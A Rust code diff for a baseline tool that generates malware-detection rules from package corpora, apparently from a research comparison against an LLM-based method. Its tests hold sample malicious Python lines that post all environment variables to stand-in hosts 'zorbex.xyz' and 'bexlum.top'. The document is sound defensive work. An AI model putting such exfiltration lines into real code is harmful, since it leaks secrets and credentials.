@@ -71,11 +71,7 @@ pub fn candidate_strings(code: &str) -> Vec<String> {
 ///
 /// TF = occurrence count across the malware group; DF = presence in the
 /// legitimate group (candidates common in benign code are worthless).
-pub fn score_group(
-    malware_codes: &[&str],
-    legit_codes: &[&str],
-    seed: u64,
-) -> Vec<ScoredString> {
+pub fn score_group(malware_codes: &[&str], legit_codes: &[&str], seed: u64) -> Vec<ScoredString> {
     // Sampling caps keep candidate extraction tractable at the paper's
     // corpus size; document frequency is computed with one Aho-Corasick
     // pass per document over the *full* text, so common strings are never
@@ -146,11 +142,7 @@ pub fn score_group(
 }
 
 /// The set of candidate indices present in `doc` (one automaton pass).
-fn doc_pattern_set(
-    ac: &textmatch::AhoCorasick,
-    doc: &str,
-    n_candidates: usize,
-) -> Vec<usize> {
+fn doc_pattern_set(ac: &textmatch::AhoCorasick, doc: &str, n_candidates: usize) -> Vec<usize> {
     let mut present = vec![false; n_candidates];
     for m in ac.find_all(doc.as_bytes()) {
         present[m.pattern] = true;
@@ -183,11 +175,7 @@ pub fn rule_from_strings(name: &str, strings: &[&str]) -> String {
 /// End-to-end score-based generation: clusters both corpora, pairs each
 /// malware group against a legitimate group, and emits one rule per
 /// malware group from the above-threshold strings.
-pub fn generate_rules(
-    malware: &[&Package],
-    legit: &[&Package],
-    seed: u64,
-) -> Vec<String> {
+pub fn generate_rules(malware: &[&Package], legit: &[&Package], seed: u64) -> Vec<String> {
     if malware.is_empty() {
         return Vec::new();
     }
@@ -216,11 +204,30 @@ pub fn generate_rules(
         // Fall back to the top-2 candidates when the threshold selects
         // nothing (the template always emits a rule per group, as the
         // original score-based tools do).
-        let selected = if selected.is_empty() {
+        let mut selected = if selected.is_empty() {
             scored.iter().take(2).map(|s| s.text.as_str()).collect()
         } else {
             selected
         };
+        // Single-repair pass: when the scored ordering leaves a group
+        // member with no string of its own (near-identical candidates can
+        // land either side of the threshold on iforest noise alone), add
+        // the first uncovered member's best-scoring candidate. Bounded to
+        // one repair so the baseline keeps its characteristic
+        // under-coverage on larger groups — coverage completion is
+        // RuleLLM's job, not this baseline's.
+        let mut repairs = 0;
+        for code in &codes {
+            if repairs >= 1 {
+                break;
+            }
+            if !selected.iter().any(|s| code.contains(s)) {
+                if let Some(best) = scored.iter().find(|s| code.contains(s.text.as_str())) {
+                    selected.push(best.text.as_str());
+                    repairs += 1;
+                }
+            }
+        }
         if selected.is_empty() {
             continue;
         }
@@ -260,11 +267,9 @@ mod tests {
 
     #[test]
     fn malicious_url_outscores_common_boilerplate() {
-        let mal = ["requests.post('https://zorbex.xyz/collect', json=dict(os.environ))\nimport os\n"];
-        let legit = [
-            "import os\nprint('hello')\n",
-            "import os\nimport json\n",
-        ];
+        let mal =
+            ["requests.post('https://zorbex.xyz/collect', json=dict(os.environ))\nimport os\n"];
+        let legit = ["import os\nprint('hello')\n", "import os\nimport json\n"];
         let scored = score_group(&mal, &legit, 1);
         let url = scored
             .iter()
@@ -285,8 +290,14 @@ mod tests {
 
     #[test]
     fn generate_rules_end_to_end() {
-        let m1 = pkg("m1", "import os, requests\nrequests.post('https://zorbex.xyz/c', data=dict(os.environ))\n");
-        let m2 = pkg("m2", "import os, requests\nrequests.post('https://bexlum.top/c', data=dict(os.environ))\n");
+        let m1 = pkg(
+            "m1",
+            "import os, requests\nrequests.post('https://zorbex.xyz/c', data=dict(os.environ))\n",
+        );
+        let m2 = pkg(
+            "m2",
+            "import os, requests\nrequests.post('https://bexlum.top/c', data=dict(os.environ))\n",
+        );
         let l1 = pkg("l1", "def add(a, b):\n    return a + b\n");
         let rules = generate_rules(&[&m1, &m2], &[&l1], 42);
         assert!(!rules.is_empty());
